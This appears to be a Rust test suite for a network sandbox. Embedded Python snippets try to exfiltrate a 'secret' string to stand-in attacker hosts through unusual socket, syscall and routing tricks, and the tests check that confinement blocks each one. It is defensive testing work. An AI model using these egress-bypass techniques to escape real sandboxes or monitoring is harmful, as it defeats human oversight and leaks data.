//! Other ways out, each by a small program that tries it. Where a control is possible, the same program without confinement
//! shows that the attempt works and that the tap sees it.

use crate::yard::{compile, compile_with, confined, is_possible, not_tested, run, unconfined};

/// The program leaks when nobody confines it, and does not when somebody does.
#[track_caller]
fn leaks_only_unconfined(python: &str) -> crate::yard::Outcome {
    let control = unconfined(python);
    assert!(!control.leaks.is_empty(), "the attempt would not work anyway: {control:#?}");
    confined(python)
}

#[test]
fn test_08_fast_open() {
    if !is_possible() {
        return;
    }
    let ran = leaks_only_unconfined(
        r#"
FAST = socket.MSG_FASTOPEN
def send(call):
    s = tcp(); s.setblocking(False); return outcome(call, s)
print("sendto", send(lambda s: s.sendto(b"secret", FAST, EVIL)))
print("sendmsg", send(lambda s: s.sendmsg([b"secret"], [], FAST | socket.MSG_NOSIGNAL, EVIL)))
class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.c_void_p), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("len", ctypes.c_uint)]
name = ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, socket.htons(443), socket.inet_aton(EVIL[0])))
data = ctypes.create_string_buffer(b"secret"); iov = (ctypes.c_size_t * 2)(ctypes.addressof(data), 6)
message = Message(ctypes.addressof(name), 16, ctypes.addressof(iov), 1)
s = tcp(); s.setblocking(False)
print("sendmmsg", libc.sendmmsg(s.fileno(), ctypes.byref(message), 1, FAST), errno.errorcode.get(ctypes.get_errno()))
s = tcp(); s.setblocking(False)
TCP_FASTOPEN_CONNECT, TCP_FASTOPEN_NO_COOKIE = 30, 34
print("options", outcome(s.setsockopt, socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1), outcome(s.setsockopt, socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1))
print("connect", outcome(s.connect, EVIL), outcome(s.sendall, b"secret"))
if "PROXY" not in os.environ: sys.exit()
s = tcp(); s.connect(GOOD); print("good", greeting(s))
"#,
    );
    ran.went_well()
        .said("sendto EOPNOTSUPP")
        .said("sendmsg EOPNOTSUPP")
        .said("sendmmsg -1 EOPNOTSUPP")
        .said("options EOPNOTSUPP EOPNOTSUPP")
        .said("connect EACCES EPIPE")
        .said("good 203.0.113.7:443");
}

#[test]
fn test_09_every_other_kind_of_socket() {
    if !is_possible() {
        return;
    }
    let ran = confined(
        r#"
allowed = []
for family in range(50):
    for kind in range(16):
        for protocol in (0, 1, 2, 6, 17, 33, 58, 132, 136, 255, 262):
            number = libc.socket(family, kind, protocol)
            if number >= 0:
                os.close(number)
                if family not in (1, 16): allowed.append((family, kind, protocol))
            if libc.socketpair(family, kind, protocol, (ctypes.c_int * 2)()) == 0 and family != 1:
                allowed.append(("pair", family, kind, protocol))
print(allowed)
"#,
    );
    let expected = "[(2, 1, 0), (2, 1, 6), (2, 2, 0), (2, 2, 17), (10, 1, 0), (10, 1, 6), (10, 2, 0), (10, 2, 17)]";
    ran.went_well().said(expected);
}

#[test]
fn test_10_mptcp() {
    if !is_possible() {
        return;
    }
    let python = r#"
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.setblocking(False); print(outcome(s.connect, EVIL))
except OSError as error:
    print(errno.errorcode[error.errno])
"#;
    if unconfined(python).leaks.is_empty() {
        eprintln!("*** no control: this kernel has no MPTCP ***");
    }
    confined(python).went_well().said("EPROTONOSUPPORT");
}

#[test]
fn test_11_datagrams() {
    if !is_possible() {
        return;
    }
    let ran = leaks_only_unconfined(
        r#"
PKTINFO = struct.pack("=i4s4s", socket.if_nametoindex("out0"), bytes(4), bytes(4))
PKTINFO6 = struct.pack("=16si", bytes(16), socket.if_nametoindex("out0"))
for family, evil, level, kind, info in ((socket.AF_INET, EVIL, 0, 8, PKTINFO), (socket.AF_INET6, EVIL6, 41, 50, PKTINFO6)):
    def udp(): return socket.socket(family, socket.SOCK_DGRAM)
    print("sendto", outcome(udp().sendto, b"secret", evil))
    print("sendmsg", outcome(udp().sendmsg, [b"secret"], [], 0, evil))
    print("pktinfo", outcome(udp().sendmsg, [b"secret"], [(level, kind, info)], 0, evil))
    s = udp(); print("connect", outcome(s.connect, evil), outcome(s.send, b"secret"), outcome(os.write, s.fileno(), b"secret"))
    s = udp(); s.bind(("", 0)); print("bound", outcome(s.sendto, b"secret", evil), outcome(s.connect, evil), outcome(s.send, b"secret"))
    s = udp(); libc.connect(s.fileno(), (ctypes.c_char * 16)(), 16); print("disconnected", outcome(s.sendto, b"secret", evil))
    s = udp(); print("shut", outcome(s.shutdown, socket.SHUT_RD), outcome(s.sendto, b"secret", evil))
    s = udp(); s.setsockopt(socket.IPPROTO_UDP, 1, 1)  # UDP_CORK
    print("corked", outcome(s.sendto, b"secret", evil)); s.setsockopt(socket.IPPROTO_UDP, 1, 0)
    s = udp(); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    print("broadcast", outcome(s.sendto, b"secret", ("192.0.2.255" if family == socket.AF_INET else "ff02::1%out0", 9)))
"#,
    );
    // Those with an address as an argument are refused by the supervisor, the others by the socket.
    ran.went_well()
        .said("sendto EACCES")
        .said("sendmsg EPIPE")
        .said("pktinfo EPIPE")
        .said("bound EACCES ok EPIPE")
        .said("connect ok EPIPE EPIPE");
    ran.said("disconnected EACCES").said("shut ENOTCONN EACCES").said("broadcast EACCES");
    assert!(!ran.stdout.contains(" ok\n"), "{ran:#?}");
}

#[test]
fn test_11_datagrams_spliced_and_in_many() {
    if !is_possible() {
        return;
    }
    let ran = leaks_only_unconfined(
        r#"
class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.c_void_p), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("len", ctypes.c_uint)]
name = ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, socket.htons(443), socket.inet_aton(EVIL[0])))
data = ctypes.create_string_buffer(b"secret"); iov = (ctypes.c_size_t * 2)(ctypes.addressof(data), 6)
messages = (Message * 2)(*[Message(ctypes.addressof(name), 16, ctypes.addressof(iov), 1)] * 2)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print("sendmmsg", libc.sendmmsg(s.fileno(), messages, 2, 0), errno.errorcode.get(ctypes.get_errno()))
outcome(s.connect, EVIL)
r, w = os.pipe(); os.write(w, b"secret")
print("splice", outcome(os.splice, r, s.fileno(), 6))
open("file", "wb").write(b"secret")
print("sendfile", outcome(os.sendfile, s.fileno(), os.open("file", os.O_RDONLY), 0, 6))
"#,
    );
    ran.went_well().said("sendmmsg -1 EPIPE");
    assert!(!ran.stdout.contains(" ok\n"), "{ran:#?}");
}

#[test]
fn test_12_io_uring() {
    if !is_possible() {
        return;
    }
    let ran = confined(
        r#"
for number in (SYS.io_uring_setup, SYS.io_uring_enter, SYS.io_uring_register):
    print(libc.syscall(number, 1, ctypes.create_string_buffer(256), 0, 0, 0, 0), errno.errorcode[ctypes.get_errno()])
"#,
    );
    ran.went_well();
    assert_eq!(ran.stdout, "-1 ENOSYS\n".repeat(3));
}

#[cfg(target_arch = "x86_64")]
#[test]
fn test_13_calls_of_other_architectures() {
    if !is_possible() {
        return;
    }
    let program = compile("foreign", include_str!("attacks/foreign.c"));
    let program = program.display().to_string();
    let ran = run(true, &[&program, "x32"]);
    ran.went_well().said("x32 socket -38");
    let ran = run(true, &[&program, "i386"]);
    ran.nothing_left();
    assert_eq!(ran.code, -31, "ended by SIGSYS: {ran:#?}");
}

/// What is let through of a program of 32 bits is exec, which is not its own call yet.
#[cfg(target_arch = "x86_64")]
#[test]
fn test_13_a_program_of_32_bits() {
    if !is_possible() {
        return;
    }
    let options = ["-m32", "-nostdlib", "-static", "-fno-stack-protector", "-fno-pie", "-no-pie"];
    let program = compile_with("other-width", include_str!("attacks/other_width.c"), &options).display().to_string();
    let control = run(false, &[&program]);
    if control.stdout != "it runs\n" {
        return not_tested("this kernel runs no programs of 32 bits");
    }
    assert!(!control.leaks.is_empty(), "the attempt would not work anyway: {control:#?}");
    let ran = run(true, &[&program]);
    ran.nothing_left();
    assert_eq!((ran.code, &*ran.stdout), (-31, ""), "ended by SIGSYS: {ran:#?}");
}

/// Not in the study: a source route in the socket's options sends elsewhere what is aimed at an allowed address. Without
/// NET_RAW, kernels set none for IPv4, and segment routes for IPv6 if they know them.
#[test]
fn test_38_source_routes() {
    if !is_possible() {
        return;
    }
    let python = r#"
route = bytes([131, 7, 4]) + socket.inet_aton(EVIL[0]) + bytes([0])
print("v4", outcome(tcp().setsockopt, socket.IPPROTO_IP, socket.IP_OPTIONS, route))
near = tcp(socket.AF_INET6); near.bind(("2001:db8::2", 0)); near.listen(1)
evil = socket.inet_pton(socket.AF_INET6, EVIL6[0])
for name, header in (("segments", bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + evil), ("home", bytes([0, 2, 2, 1, 0, 0, 0, 0]) + evil)):
    s = tcp(socket.AF_INET6); s.setblocking(False)
    print(name, outcome(s.setsockopt, 41, 57, header))
    outcome(s.connect, near.getsockname())
for option in (5, 6, 54, 55, 59):
    print("v6", outcome(tcp(socket.AF_INET6).setsockopt, 41, option, bytes(8)))
"#;
    let control = unconfined(python);
    if control.leaks.is_empty() {
        eprintln!("*** no control: this kernel sets no source route for the unprivileged: {} ***", control.stdout);
    }
    let ran = confined(python);
    ran.went_well().said("v4 EPERM").said("segments EPERM").said("home EPERM");
    assert_eq!(ran.stdout.matches("v6 EPERM").count(), 5, "{ran:#?}");
}

/// Not in the study: a device makes even loopback leave.
#[test]
fn test_39_devices() {
    if !is_possible() {
        return;
    }
    let ran = leaks_only_unconfined(
        r#"
near = tcp(); near.bind(("127.0.0.1", 0)); near.listen(1)
s = tcp(); s.setblocking(False)
print("device", outcome(s.setsockopt, socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"out0\0"))
outcome(s.connect, near.getsockname())
index = struct.pack("=i", socket.if_nametoindex("out0"))
print("index", outcome(tcp().setsockopt, socket.SOL_SOCKET, 62, index))
print("unicast", outcome(tcp().setsockopt, socket.IPPROTO_IP, 50, struct.pack("!i", 1)))
print("unicast6", outcome(tcp(socket.AF_INET6).setsockopt, 41, 76, struct.pack("!i", 1)))
"#,
    );
    ran.went_well().said("device EPERM").said("index EPERM").said("unicast EPERM").said("unicast6 EPERM");
}

/// Not in the study: the kernel announces groups that are joined, with an address of the app's choice.
#[test]
fn test_40_groups() {
    if !is_possible() {
        return;
    }
    let ran = leaks_only_unconfined(
        r#"
index = socket.if_nametoindex("out0")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
join = socket.inet_aton("239.66.66.66") + bytes(4) + struct.pack("=i", index)
group = struct.pack("=IxxxxHH4s120x", index, 2, 0, socket.inet_aton("239.66.66.67"))
print("v4", outcome(s.setsockopt, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, join))
print("v4", outcome(s.setsockopt, socket.IPPROTO_IP, 42, group))
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
join = socket.inet_pton(socket.AF_INET6, "ff0e::66") + struct.pack("=I", index)
print("v6", outcome(s.setsockopt, 41, socket.IPV6_JOIN_GROUP, join), outcome(s.setsockopt, 41, 27, join))
time.sleep(0.3) if "PROXY" not in os.environ else None
"#,
    );
    ran.went_well().said("v6 EPERM EPERM");
    assert_eq!(ran.stdout.matches("v4 EPERM").count(), 2, "{ran:#?}");
}

#[test]
fn test_19_inherited_sockets() {
    if !is_possible() {
        return;
    }
    // The supervisor itself inherits them from this process, above 2, without the flag that closes them.
    let ran = confined("print(sorted(int(n) for n in os.listdir('/proc/self/fd'))[:3], len(os.listdir('/proc/self/fd')))");
    ran.went_well().said("[0, 1, 2] 4");
}

#[test]
fn test_20_sockets_handed_over_inside() {
    if !is_possible() {
        return;
    }
    let ran = confined(
        r#"
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
if os.fork() == 0:
    s = tcp(); socket.send_fds(a, [b"x"], [s.fileno()]); s.connect(GOOD); os._exit(0)
_, numbers, _, _ = socket.recv_fds(b, 1, 1); s = socket.socket(fileno=numbers[0]); os.wait()
print("connected by another", greeting(s))
if os.fork() == 0:
    s = tcp(); socket.send_fds(a, [b"x"], [s.fileno()]); os._exit(0)
_, numbers, _, _ = socket.recv_fds(b, 1, 1); s = socket.socket(fileno=numbers[0]); os.wait()
print(outcome(s.connect, EVIL), outcome(s.connect, GOOD), greeting(s))
"#,
    );
    ran.went_well().said("connected by another 203.0.113.7:443").said("EACCES ok 203.0.113.7:443");
}

#[test]
fn test_24_an_app_that_changes_its_user_or_hides() {
    if !is_possible() {
        return;
    }
    // Without privilege it can only hide: what can't be looked at is refused.
    let ran = confined(
        r#"
PR_SET_DUMPABLE = 4
s = tcp(); libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
print("hidden", outcome(s.connect, GOOD), outcome(tcp().connect, EVIL))
libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0); s.connect(GOOD); print("seen", greeting(s))
"#,
    );
    ran.went_well().said("hidden EACCES EACCES").said("seen 203.0.113.7:443");
}

#[test]
fn test_25_bad_pointers_and_lengths() {
    if !is_possible() {
        return;
    }
    let ran = confined(
        r#"
s, v6 = tcp(), tcp(socket.AF_INET6)
name = ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, socket.htons(443), socket.inet_aton(EVIL[0])), 4096)
def connect(number, pointer, length):
    return errno.errorcode[ctypes.get_errno()] if libc.connect(number, ctypes.c_void_p(pointer), ctypes.c_uint(length)) else "ok"
here = ctypes.addressof(name)
print("pointers", *(connect(s.fileno(), pointer, 16) for pointer in (0, 1, 2**47, 2**63, 2**64 - 8)))
print("lengths", *(connect(s.fileno(), here, length) for length in (0, 1, 15, 129, 4096, 2**31, 2**32 - 1)))
print("descriptors", *(connect(number, here, 16) for number in (-1, 99, 0, 2**31 - 1)))
family = ctypes.create_string_buffer(struct.pack("=H30x", 77))
print("families", connect(s.fileno(), ctypes.addressof(family), 32), connect(v6.fileno(), here, 16))
print("userfaultfd", libc.syscall(SYS.userfaultfd, 0), errno.errorcode[ctypes.get_errno()])
print("evil", connect(s.fileno(), here, 128)); s.connect(GOOD); print(greeting(s))
"#,
    );
    ran.went_well()
        .said("pointers EFAULT EFAULT EFAULT EFAULT EFAULT")
        .said("lengths EINVAL EINVAL EINVAL EINVAL EINVAL EINVAL EINVAL")
        .said("descriptors EBADF EBADF ENOTSOCK EBADF")
        .said("families EAFNOSUPPORT EAFNOSUPPORT")
        .said("evil EACCES")
        .said("203.0.113.7:443");
}

#[test]
fn test_34_names_asked_of_the_host() {
    if !is_possible() {
        return;
    }
    let ran = confined(
        r#"
for number in (SYS.add_key, SYS.request_key, SYS.keyctl):
    print(libc.syscall(number, b"dns_resolver", b"evil.example", b"", -3, 0), errno.errorcode[ctypes.get_errno()])
"#,
    );
    ran.went_well();
    assert_eq!(ran.stdout, "-1 EPERM\n".repeat(3));
}
